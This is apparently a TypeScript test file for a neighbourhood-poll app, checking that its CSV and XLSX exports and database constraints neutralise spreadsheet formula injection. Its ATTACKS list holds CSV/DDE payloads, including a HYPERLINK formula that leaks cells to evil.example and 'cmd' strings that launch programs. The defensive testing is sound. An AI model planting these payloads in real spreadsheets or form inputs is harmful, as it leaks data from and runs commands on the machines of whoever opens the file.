import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { type Kysely, sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadPolls } from '../../flows/polls/catalog.js';
import { FORMULA_SAFE_COLUMNS } from '../../migrations/0022_export_checks.js';
import { createDb, ensureDatabase } from '../../src/db/connect.js';
import { migrateToLatest } from '../../src/db/migrate.js';
import type { Database } from '../../src/db/schema.js';
import { csvLine } from '../../src/export/csv.js';
import { ExportRequestSchema, writeExport } from '../../src/export/datasets.js';
import { ExportPool } from '../../src/export/pool.js';
import { type TestSetup, testSetup } from '../helpers/env.js';

let setup: TestSetup;
let db: Kysely<Database>;
let pool: ExportPool;

/** What a resident can type to make the wijkteam's Excel run something or leak the sheet. */
const ATTACKS = [
  '=HYPERLINK(CONCAT("https://evil.example/?d=",A2:A99),"Klik hier")',
  "=2+5*cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+31 6 bel me',
  "-2+3+cmd|' /C notepad'!A0",
  '\t=1+1',
];
/** A panel id (base64url) can start with "-" too. */
const DASH_PANEL_ID = '-Xq3vS9aZ0bK1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1w';

function collect(): { out: Writable; text: () => string; bytes: () => Buffer } {
  const chunks: Buffer[] = [];
  return {
    out: new Writable({
      write(chunk: Buffer, _encoding, done) {
        chunks.push(chunk);
        done();
      },
    }),
    text: () => Buffer.concat(chunks).toString('utf8'),
    bytes: () => Buffer.concat(chunks),
  };
}

async function exported(request: Record<string, unknown>): Promise<{ raw: string; bytes: Buffer }> {
  const s = collect();
  const ctx = { pool, minCell: 10, polls: loadPolls };
  await writeExport(ExportRequestSchema.parse(request), ctx, s.out);
  return { raw: s.text(), bytes: s.bytes() };
}

/** The CSV as records keyed by column, read like a spreadsheet reads it. */
function records(raw: string, delimiter = ','): Record<string, string>[] {
  return parse(raw, { bom: true, columns: true, delimiter }) as Record<string, string>[];
}

/** Cells that a spreadsheet would read as a formula, but for the numeric columns named. */
function formulaCells(rows: Record<string, string>[], numeric: string[] = []): string[] {
  return rows.flatMap((r) =>
    Object.entries(r)
      .filter(([column, value]) => !numeric.includes(column) && /^[-=+@\t\r]/.test(value))
      .map(([column, value]) => `${column}: ${value}`),
  );
}

beforeAll(async () => {
  setup = testSetup();
  await ensureDatabase(setup.env.DATABASE_URL);
  db = createDb(setup.env.DATABASE_URL, 2);
  await migrateToLatest(db as Kysely<unknown>);
  pool = new ExportPool({ databaseUrl: setup.env.DATABASE_URL, size: 2 });
  const base = {
    wave_key: '',
    poll: 'veerkracht-kort',
    area: 'nazareth',
    age_group: '41-65',
    language: 'nl',
    channel: 'telegram',
    answered_on: '2026-03-03',
  };
  await db
    .insertInto('answers')
    .values([
      ...ATTACKS.map((text, i) => ({ ...base, respondent: `pseudo-${i}`, question: 'beter', text })),
      // A genuinely negative number must stay a number; its code is text like any other.
      { ...base, respondent: DASH_PANEL_ID, question: 'cijfer', answer_code: '7', answer_number: -2.5 },
    ])
    .execute();
  await db
    .insertInto('ideas')
    .values(ATTACKS.map((text) => ({ text, theme: 'wonen', area: 'pottenberg', language: 'nl' })))
    .execute();
}, 60_000);

afterAll(async () => {
  await pool?.close();
  await db?.destroy();
  await setup?.cleanup();
});

describe('CSV exports that the wijkteam opens in Excel', () => {
  it.each([',', ';'] as const)(
    'write free text that starts like a formula with a leading quote in responses.csv (delimiter %s)',
    async (delimiter) => {
      const { raw } = await exported({ dataset: 'responses', format: 'csv', delimiter, bom: true });
      const texts = records(raw, delimiter)
        .map((r) => r.text!)
        .filter((t) => t !== '');
      expect(texts.sort()).toEqual(ATTACKS.map((a) => `'${a}`).sort());
      expect(formulaCells(records(raw, delimiter), ['answer_number'])).toEqual([]);
    },
  );

  it('write idea texts that start like a formula with a leading quote in ideas.csv', async () => {
    const { raw } = await exported({ dataset: 'ideas', format: 'csv' });
    const rows = records(raw);
    expect(rows.map((r) => r.text).sort()).toEqual(ATTACKS.map((a) => `'${a}`).sort());
    expect(rows.every((r) => r.area === 'pottenberg' && r.theme === 'wonen')).toBe(true);
    expect(formulaCells(rows)).toEqual([]);
  });

  it('keep numbers numeric and neutralise panel ids that start with a dash', async () => {
    const { raw } = await exported({ dataset: 'responses', format: 'csv', panelIds: true });
    const row = records(raw).find((r) => r.question === 'cijfer')!;
    expect(row.answer_number).toBe('-2.5');
    expect(row.answer_code).toBe('7');
    expect(row.respondent).toBe(`'${DASH_PANEL_ID}`);
    expect(row.answered_on).toBe('2026-03-03');
  });

  it('leave JSON Lines exactly as stored: they are read by programs, not spreadsheets', async () => {
    const { raw } = await exported({ dataset: 'responses', format: 'jsonl' });
    const objects = raw
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { text: string | null; answer_number: number | null });
    expect(
      objects
        .map((o) => o.text)
        .filter((t) => t !== null)
        .sort(),
    ).toEqual([...ATTACKS].sort());
    expect(objects.some((o) => o.answer_number === -2.5)).toBe(true);
  });

  it('write the XLSX with text cells only: no cell holds a formula, numbers stay numbers', async () => {
    const { bytes } = await exported({ dataset: 'responses', format: 'xlsx' });
    const dir = mkdtempSync(join(tmpdir(), 'straatpraat-xlsx-'));
    writeFileSync(join(dir, 'r.xlsx'), bytes);
    const sheet = execFileSync('unzip', ['-p', join(dir, 'r.xlsx'), 'xl/worksheets/sheet1.xml']).toString();
    expect(sheet).toContain('HYPERLINK(CONCAT(');
    expect(sheet).not.toMatch(/<f[\s>]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const values: unknown[] = [];
    workbook.getWorksheet(1)!.eachRow((r) => values.push(...(r.values as unknown[]).slice(1)));
    expect(values.filter((v) => typeof v === 'object' && v !== null)).toEqual([]);
    expect(values).toContain(ATTACKS[0]);
    expect(values).toContain(-2.5);
  });

  it.each(FORMULA_SAFE_COLUMNS)(
    'refuse, in the database, an answer whose %s starts like a formula (the CSV writes that column as stored)',
    async (column) => {
      for (const [i, start] of ['=', '+', '-', '@', '\t', '\r'].entries()) {
        const row = {
          respondent: `refused-${column}-${i}`,
          wave_key: '',
          poll: 'veerkracht-kort',
          question: 'thuis',
          indicator: 'thuis_in_buurt',
          area: 'nazareth',
          age_group: '41-65',
          language: 'nl',
          channel: 'telegram',
          answered_on: '2026-03-03',
          [column]: `${start}HYPERLINK("https://evil.example")`,
        };
        await expect(db.insertInto('answers').values(row).execute()).rejects.toMatchObject({
          code: '23514',
          constraint: `answers_${column}_no_formula`,
        });
        // Changing a stored answer is refused the same way.
        await expect(
          sql`update monitor.answers set ${sql.id(column)} = ${`${start}1+1`} where respondent = 'pseudo-0'`.execute(
            db,
          ),
        ).rejects.toMatchObject({ code: '23514' });
      }
      // The same text later in the value, and no value at all, are fine.
      await db
        .insertInto('answers')
        .values({
          respondent: `allowed-${column}`,
          wave_key: '',
          poll: 'veerkracht-kort',
          question: 'thuis',
          area: 'nazareth',
          channel: 'telegram',
          answered_on: '2026-03-03',
          [column]: 'a=1+1',
        })
        .execute();
      await db.deleteFrom('answers').where('respondent', '=', `allowed-${column}`).execute();
    },
  );

  it('write generated CSV (aggregates, codebook) with the same rule, numbers untouched', () => {
    expect(csvLine(['=1+1', '@SUM(A1)', '+1', '-1', '\tx', '\r=1', -1, 2.5, 'tot18', null], ',')).toBe(
      `'=1+1,'@SUM(A1),'+1,'-1,'\tx,"'\r=1",-1,2.5,tot18,\n`,
    );
  });
});
